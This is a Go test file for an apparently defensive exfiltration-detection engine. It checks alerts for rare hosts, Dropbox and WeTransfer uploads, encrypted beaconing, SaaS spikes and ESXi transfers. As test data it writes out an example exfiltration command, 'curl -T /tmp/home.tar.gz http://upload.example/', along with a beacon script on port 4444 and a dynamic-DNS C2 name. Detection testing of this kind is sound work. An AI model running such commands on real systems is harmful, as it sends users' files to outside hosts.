package detect

import (
	"net/netip"
	"path/filepath"
	"testing"
	"time"

	"github.com/outflow-sensor/outflow/enrich/feed"
	"github.com/outflow-sensor/outflow/enrich/process"
	"github.com/outflow-sensor/outflow/entropy"
)

// collector gathers alerts.
type collector struct{ alerts []*Alert }

func (c *collector) add(a *Alert) { c.alerts = append(c.alerts, a) }

func (c *collector) by(analytic string) []*Alert {
	var out []*Alert
	for _, a := range c.alerts {
		if a.Analytic == analytic {
			out = append(out, a)
		}
	}
	return out
}

func newEngine(t *testing.T, cfg *Config, ev Events) (*Engine, *collector) {
	t.Helper()
	if cfg == nil {
		cfg = Compiled()
	}
	c := &collector{}
	return New(cfg, NewState(32<<20), ev, c.add), c
}

var day0 = time.Date(2026, 3, 1, 9, 0, 0, 0, time.UTC)

// tcp is a finished TCP flow from an internal host with the given bytes.
func tcp(at time.Time, src, dst string, dport uint16, out, in uint64) *Flow {
	return &Flow{Start: at, End: at.Add(2 * time.Second), CommunityID: CIDOf([]byte("1:" + src + ">" + dst)), Proto: 6,
		Orig: netip.AddrPortFrom(mustAddr(src), 50000), Resp: netip.AddrPortFrom(mustAddr(dst), dport),
		OrigBytes: out, RespBytes: in, OrigPkts: 10, RespPkts: 10, Final: true, Observed: true, App: "unknown", HTTPBody: -1}
}

func proc(image, cmd string) *process.Attribution {
	return &process.Attribution{Process: process.Process{Host: "ws1", PID: 4242, Image: image, Command: cmd, Start: day0.Add(-time.Minute)},
		Match: "5tuple", Feed: "test"}
}

// TestRareHostStateMachine runs simulated days in packet time: silent
// while the baseline has under 14 days of data; then a destination only
// one host reaches alerts, once a day per host, process and destination;
// a destination many hosts reach does not; and a restart from the saved
// state carries on where it was.
func TestRareHostStateMachine(t *testing.T) {
	cfg := Compiled()
	e, c := newEngine(t, cfg, nil)
	curl := proc("/usr/bin/curl", "curl https://rare.example")
	common := func(d int) {
		// Ten hosts reach a popular site every day.
		for h := 0; h < 10; h++ {
			f := tcp(day0.Add(time.Duration(d)*24*time.Hour+time.Duration(h)*time.Minute), "10.0.0."+itoa(10+h), "198.51.100.80", 443, 1000, 5000)
			f.ServerName = "popular.example"
			e.Flow(f)
		}
	}
	rare := func(d int, minute int) {
		f := tcp(day0.Add(time.Duration(d)*24*time.Hour+time.Duration(minute)*time.Minute+time.Hour), "10.0.0.5", "203.0.113.9", 443, 500, 700)
		f.ServerName = "rare.example"
		f.OrigProc = curl
		e.Flow(f)
	}
	for d := 0; d < 14; d++ {
		common(d)
		rare(d, 0)
	}
	if len(c.alerts) != 0 {
		t.Fatalf("alerts while training: %v", c.alerts[0].Title)
	}
	// Day 14: activated. The rare destination alerts once, rated as the
	// seed rates curl (informational); the repeat an hour later is
	// deduplicated.
	common(14)
	rare(14, 0)
	rare(14, 60)
	got := c.by("rare_host")
	if len(got) != 1 || got[0].Severity != Informational || got[0].Evidence.Measured["prevalence"] != 1 {
		t.Fatalf("day 14: %d alerts %+v", len(got), got)
	}
	if e.Stats.Suppressed != 1 {
		t.Errorf("suppressed %d, want 1", e.Stats.Suppressed)
	}
	if len(c.by("rare_host_global")) != 0 {
		t.Error("a destination seen for 14 days is not new to the organisation")
	}
	// Save, restart, go on: day 15 alerts again (dedup lasts a day), the
	// popular site still does not.
	path := filepath.Join(t.TempDir(), "state")
	if err := e.Save(path); err != nil {
		t.Fatal(err)
	}
	st, err := LoadState(path, 32<<20)
	if err != nil {
		t.Fatal(err)
	}
	c2 := &collector{}
	e = New(cfg, st, nil, c2.add)
	common(15)
	rare(15, 0)
	rare(15, 30)
	if got := c2.by("rare_host"); len(got) != 1 {
		t.Fatalf("day 15 after restart: %d alerts", len(got))
	}
	// A destination nobody reached before is globally rare: MSBuild's two
	// variations, T1071 high and T1127.001 medium, as the seed rates them.
	f := tcp(day0.Add(15*24*time.Hour+3*time.Hour), "10.0.0.5", "203.0.113.66", 8443, 500, 700)
	f.ServerName = "never-seen.example"
	f.OrigProc = proc(`C:\Windows\Microsoft.NET\Framework64\v4.0.30319\MSBuild.exe`, "msbuild.exe x.csproj")
	e.Flow(f)
	g := c2.by("rare_host_global")
	if len(g) != 2 || g[0].Severity != High || g[0].Technique != "T1071" || g[1].Severity != Medium || g[1].Technique != "T1127.001" {
		t.Fatalf("global: %+v", g)
	}
	// Without a restart's state, training would start over: nothing.
	e3, c3 := newEngine(t, cfg, nil)
	e = e3
	rare(16, 0)
	if len(c3.alerts) != 0 {
		t.Error("a fresh state alerted")
	}
}

func itoa(i int) string { return string(rune('0'+i/10)) + string(rune('0'+i%10)) }

func TestExfilApp(t *testing.T) {
	e, c := newEngine(t, nil, nil)
	word := proc(`C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`, "winword.exe /n")
	for i := 0; i < 3; i++ {
		f := tcp(day0.Add(time.Duration(i)*time.Minute), "10.0.0.5", "162.125.1.1", 443, 4<<20, 50<<10)
		f.ServerName, f.App, f.Handshake, f.OrigProc = "content.dropboxapi.com", "tls", true, word
		e.Flow(f)
	}
	a := c.by("AN1511")
	if len(a) != 1 || a[0].Severity != High || a[0].Evidence.Measured["out_bytes"] != uint64(12<<20) || len(a[0].Evidence.CommunityIDs) != 1 {
		t.Fatalf("%+v", a)
	}
	// A browser is not a watched application; without a process the
	// network side still reports, low.
	e, c = newEngine(t, nil, nil)
	f := tcp(day0, "10.0.0.5", "162.125.1.1", 443, 30<<20, 10<<10)
	f.ServerName, f.OrigProc = "content.dropboxapi.com", proc(`C:\Program Files\Google\Chrome\Application\chrome.exe`, "")
	e.Flow(f)
	f.OrigProc, f.CommunityID = nil, CIDOf([]byte("other"))
	e.Flow(f)
	if a := c.by("AN1511"); len(a) != 1 || a[0].Severity != Low || a[0].Missing[0] != "process" {
		t.Fatalf("%+v", a)
	}
}

func TestToolUpload(t *testing.T) {
	e, c := newEngine(t, nil, nil)
	f := tcp(day0, "10.0.0.5", "203.0.113.9", 80, 30<<20, 2000)
	f.App, f.HTTPMethod, f.HTTPBody, f.ServerName = "http", "POST", 30<<20, "upload.example"
	f.OrigProc = proc("/usr/bin/curl", "curl -T /tmp/home.tar.gz http://upload.example/")
	e.Flow(f)
	a := c.by("AN1512")
	if len(a) != 1 || a[0].Severity != High || a[0].Evidence.Measured["archiver_in_command"] != true {
		t.Fatalf("%+v", a)
	}
	// A large download is no upload.
	e, c = newEngine(t, nil, nil)
	f = tcp(day0, "10.0.0.5", "203.0.113.9", 443, 2000, 300<<20)
	f.OrigProc = proc("/usr/bin/wget", "wget https://mirror.example/big.iso")
	e.Flow(f)
	if len(c.alerts) != 0 {
		t.Fatalf("download alerted: %s", c.alerts[0].Title)
	}
}

// events is a host-event store for tests.
type events []feed.Event

func (ev events) Query(host string, from, to time.Time, guid string, pid int64, kinds ...feed.Kind) []feed.Event {
	var out []feed.Event
	for _, e := range ev {
		if e.Host == host && !e.Time.Before(from) && !e.Time.After(to) && (pid < 0 || e.PID == pid) && (len(kinds) == 0 || e.Kind == kinds[0]) {
			out = append(out, e)
		}
	}
	return out
}

func TestEncryptedChannelHostVariant(t *testing.T) {
	ev := events{{Kind: feed.KindModuleLoad, Host: "ws1", PID: 4242, Time: day0.Add(-30 * time.Second), Target: "/usr/lib/x86_64-linux-gnu/libcrypto.so.3", Feed: "test"}}
	e, c := newEngine(t, nil, ev)
	f := tcp(day0, "10.0.0.5", "203.0.113.9", 4444, 200<<10, 3000)
	f.Class, f.Bits, f.N = [2]entropy.Class{entropy.Encrypted, entropy.Text}, [2]float64{7.95, 4.1}, [2]int{4096, 800}
	f.OrigProc = proc("/usr/bin/python3.11", "python3 beacon.py")
	e.Flow(f)
	a := c.alerts
	if len(a) != 1 || a[0].Analytic != "AN0401" || a[0].Severity != High || len(a[0].Evidence.Events) != 1 {
		t.Fatalf("%+v", a)
	}
	// Traffic to a public DoH resolver is left out; so is a process on
	// AllowedCryptoProcesses (it then is the network variant's business,
	// which needs the higher PayloadEntropyThreshold).
	e, c = newEngine(t, nil, ev)
	g := *f
	g.Resp = netip.AddrPortFrom(mustAddr("1.1.1.1"), 443)
	e.Flow(&g)
	h := *f
	h.Bits[0] = 7.2
	h.OrigProc = proc("/usr/sbin/sshd", "sshd")
	e.Flow(&h)
	if len(c.alerts) != 0 {
		t.Fatalf("%s", c.alerts[0].Title)
	}
}

func TestSaaSCalls(t *testing.T) {
	cfg := Compiled()
	cfg.AN1514.APICallThreshold = 20
	e, c := newEngine(t, cfg, nil)
	call := func(at time.Time) {
		e.Event(&feed.Event{Kind: feed.KindSaaSFile, Time: at, User: "Alice@contoso.com", Action: "FileUploaded", Feed: "m365",
			Target: "https://contoso-my.sharepoint.com/personal/alice/Documents/x.docx", Bytes: 1000})
	}
	// Fifteen days at ten calls a day: the baseline.
	for d := 0; d < 15; d++ {
		for i := 0; i < 10; i++ {
			call(day0.Add(time.Duration(d)*24*time.Hour + time.Duration(i)*time.Minute))
		}
	}
	if len(c.alerts) != 0 {
		t.Fatal("alerted at the usual rate")
	}
	for i := 0; i < 60; i++ {
		call(day0.Add(15*24*time.Hour + time.Duration(i)*30*time.Second))
	}
	a := c.by("AN1514")
	if len(a) != 1 || a[0].Host.User != "alice@contoso.com" || a[0].Destination.Name != "contoso-my.sharepoint.com" {
		t.Fatalf("%+v", a)
	}
}

func TestDatastoreTransfer(t *testing.T) {
	cfg := Compiled()
	cfg.AN1515.ESXiHosts = []string{"10.0.5.20"}
	e, c := newEngine(t, cfg, nil)
	e.Flow(tcp(day0, "10.0.5.20", "203.0.113.9", 902, 2<<30, 1<<20))
	e.Flow(tcp(day0, "10.0.5.21", "203.0.113.9", 902, 2<<30, 1<<20))
	if a := c.by("AN1515"); len(a) != 1 || a[0].Host.IP != "10.0.5.20" {
		t.Fatalf("%+v", a)
	}
}

func TestWebFileSharing(t *testing.T) {
	cfg := Compiled()
	cfg.Baseline.ActivationAfter = 0
	cfg.PeerGroups = map[string][]string{"finance": {"10.0.1.0/24"}}
	if errs := cfg.compile("test"); len(errs) > 0 {
		t.Fatal(errs)
	}
	e, c := newEngine(t, cfg, nil)
	up := func(at time.Time, src string, n uint64, name string) {
		f := tcp(at, src, "203.0.113.9", 443, n, 10<<10)
		f.ServerName, f.App, f.Handshake = name, "tls", true
		e.Flow(f)
	}
	up(day0, "10.0.1.5", 25<<20, "wetransfer.com")
	up(day0.Add(time.Hour), "10.0.1.5", 25<<20, "wetransfer.com") // not the first any more
	up(day0.Add(2*time.Hour), "10.0.1.6", 5<<20, "wetransfer.com")
	up(day0.Add(3*time.Hour), "10.0.2.7", 3<<20, "c2.duckdns.org")
	if a := c.by("first_large_upload"); len(a) != 1 || a[0].Host.IP != "10.0.1.5" || a[0].Severity != High {
		t.Fatalf("first upload: %+v", a)
	}
	if a := c.by("dynamic_dns"); len(a) != 1 || a[0].Severity != Medium {
		t.Fatalf("dynamic DNS: %+v", a)
	}
	e.Close()
	org, peer := c.by("top_file_sharing_org"), c.by("top_file_sharing_peer")
	if len(org) != 2 || org[0].Host.IP != "10.0.1.5" || len(peer) != 2 || peer[1].Host.IP != "10.0.1.6" {
		t.Fatalf("top: %+v %+v", org, peer)
	}
}
